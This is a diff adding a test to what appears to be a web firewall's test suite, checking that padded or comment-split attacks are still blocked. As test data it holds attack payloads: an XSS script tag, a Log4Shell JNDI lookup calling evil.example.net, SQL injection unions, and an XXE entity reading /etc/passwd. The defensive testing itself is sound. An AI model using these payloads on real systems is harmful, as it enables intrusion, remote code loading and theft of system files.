@@ -154,6 +154,22 @@ describe('adding text to a value never makes a match go away', () => {
     })
   }
 
+  test('inside a long comment of a long value, and torn apart by padding longer than a window', () => {
+    const words = PROSE.join(' ').repeat(80)
+    for (const attack of [
+      '<script>alert(1)</script>',
+      '${jndi:ldap://evil.example.net/a}',
+      "1' union select 1,2 -- ",
+    ]) {
+      const commented = `${words} /* ${words.slice(0, 80)} ${attack} ${words.slice(0, 80)} */ ${words}`
+      assert.equal(post('application/x-www-form-urlencoded', `q=${encodeURIComponent(commented)}`), 'block')
+    }
+    const torn = `1' union${' '.repeat(20_000)}select 1,2 -- `
+    assert.equal(post('application/x-www-form-urlencoded', `q=${encodeURIComponent(torn)}`), 'block')
+    const split = `1' union/*${words}*/select 1,2 -- `
+    assert.equal(post('application/x-www-form-urlencoded', `q=${encodeURIComponent(split)}`), 'block')
+  })
+
   test('in the prolog of an XML document, over several lines, whatever follows', () => {
     const documents = [
       '<?xml version="1.0"?>\n<!DOCTYPE root [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<root>&xxe;</root>',
